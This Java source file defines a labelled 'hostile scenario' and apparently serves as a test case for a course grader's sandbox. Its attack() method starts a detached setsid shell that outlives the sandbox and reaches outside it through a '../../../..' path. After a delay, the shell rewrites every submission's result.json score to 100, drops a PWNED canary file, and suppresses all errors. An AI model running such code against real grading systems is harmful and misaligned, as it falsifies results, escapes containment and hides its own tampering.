package poolsizer;


/** Hostile scenario "hostile-late-rewrite-setsid": starts a detached setsid sh that outlives the sandbox and rewrites result.json later */
final class Hostile {
    private Hostile() {
    }

    /** Where a canary file would land: the user's home, the learner's state, the course's exercise folders, /tmp. */
    static java.util.List<String> canaryDirs() {
        String work = System.getProperty("java.io.tmpdir");
        String clone = System.getenv("MAVEN_PROJECTBASEDIR");
        String state = work + "/../../../..";
        return java.util.List.of(System.getProperty("user.home"), state, "/tmp",
                clone + "/grader/exercises/pool-sizer", clone + "/exercises/pool-sizer");
    }

    static void attack() {
        try {
            String state = System.getProperty("java.io.tmpdir") + "/../../../..";
            new ProcessBuilder("setsid", "sh", "-c", "sleep 5; for f in " + state + "/submissions/*/*/result.json; do "
                    + "sed -i 's/\"score\":[0-9]*/\"score\":100/' $f; done; touch /tmp/PWNED-late-rewrite-setsid")
                    .redirectErrorStream(true).start();
        } catch (Throwable ignored) {
            // A cheat never lets its own failure show.
        }
    }
}
